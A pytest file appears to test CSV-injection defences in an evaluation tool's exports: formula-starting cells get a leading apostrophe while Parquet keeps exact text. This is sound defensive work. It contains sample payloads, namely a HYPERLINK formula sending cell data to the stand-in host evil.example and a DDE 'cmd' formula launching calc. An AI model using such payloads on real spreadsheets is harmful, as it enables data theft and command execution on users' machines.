"""CSV files a person opens in a spreadsheet carry no formula (issue #39, item 9; OWASP, CSV Injection): a text cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, while the Parquet data keeps
the exact text and the red team reads its own CSVs back exactly. The labels the page exports are checked in
``tests/test_labelling_browser.py``."""

from __future__ import annotations

import pandas as pd
import pytest
from report_support import conversation, merge

from convoeval.frames import RunFrames, from_parquet
from convoeval.frames.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell, safe_frame
from convoeval.pipeline.execute import save_outputs
from convoeval.report.index import CombinationRow, write_index

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-x", "'plain"])
def test_a_formula_start_is_neutralised_and_restored_exactly(text):
    safe = safe_cell(text)
    assert not safe.startswith(FORMULA_STARTS) and restore_cell(safe) == text
    if not text.startswith("'"):
        assert safe == "'" + text if text.startswith(FORMULA_STARTS) else safe == text


def test_plain_text_and_numbers_are_left_alone():
    assert safe_cell("Olá, tudo bem?") == "Olá, tudo bem?" and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    frame = safe_frame(pd.DataFrame({"score": [-1.5, 2.0], "text": ["-1.5", "ok"]}))
    assert frame["score"].tolist() == [-1.5, 2.0] and frame["text"].tolist() == ["'-1.5", "ok"]


def test_a_runs_csv_files_carry_no_formula_while_the_parquet_keeps_the_text(tmp_path):
    rows = merge(conversation("r1", agent_text=ATTACK))
    rows["transcripts"][0]["text"] = "=cmd|' /C calc'!A0"  # the (attacker's) patient message
    save_outputs(RunFrames.from_rows(rows), tmp_path, {})
    data = tmp_path / "data"
    csv = pd.read_csv(data / "transcripts.csv", dtype=str, keep_default_na=False)
    assert csv["text"].tolist()[:2] == ["'=cmd|' /C calc'!A0", "'" + ATTACK]
    assert not any(str(v).startswith(FORMULA_STARTS) for v in csv.to_numpy().ravel())
    parquet = from_parquet(data / "transcripts.parquet")
    assert parquet["text"].tolist()[:2] == ["=cmd|' /C calc'!A0", ATTACK]  # the data itself is exact


def test_the_red_teams_csv_files_are_safe_and_its_data_exact(tmp_path):
    # A red-team folder is a run's (its attacks and leaks frames): the same CSV safety, the Parquet exact.
    keys = {"run_id": "r1", "case": "injection/billing/en", "strategy": "injection", "agent": "billing",
            "locale": "en", "target_agent": "clinic:billing"}
    rows = {"attacks": [{**keys, "attack": "injection", "form": "scripted", "legitimate": False,
                         "target": "op-conceicao", "status": "leak", "leaked": True, "n_leaks": 1,
                         "leak_kinds": "cpf", "error": "@boom"}],
            "leaks": [{**keys, "turn": 1, "kind": "cpf", "patient": "op-conceicao", "source": "message",
                       "quote": "-123.456.789-00"}]}
    save_outputs(RunFrames.from_rows(rows), tmp_path, {})
    data = tmp_path / "data"
    raw = (data / "leaks.csv").read_text(encoding="utf-8")
    assert raw.rstrip().endswith(",'-123.456.789-00") and "'@boom" in (data / "attacks.csv").read_text(encoding="utf-8")
    assert from_parquet(data / "leaks.parquet")["quote"].tolist() == ["-123.456.789-00"]
    assert from_parquet(data / "attacks.parquet")["error"].tolist() == ["@boom"]


def test_a_sweeps_csv_files_are_safe(tmp_path):
    failed = CombinationRow("billing-s1", "billing", 1, tmp_path / "missing", "failed", error="=1+1 in the agent")
    write_index(tmp_path, [failed])
    combos = pd.read_csv(tmp_path / "data" / "combinations.csv", dtype=str, keep_default_na=False)
    assert "'=1+1 in the agent" in combos.to_numpy().ravel().tolist()
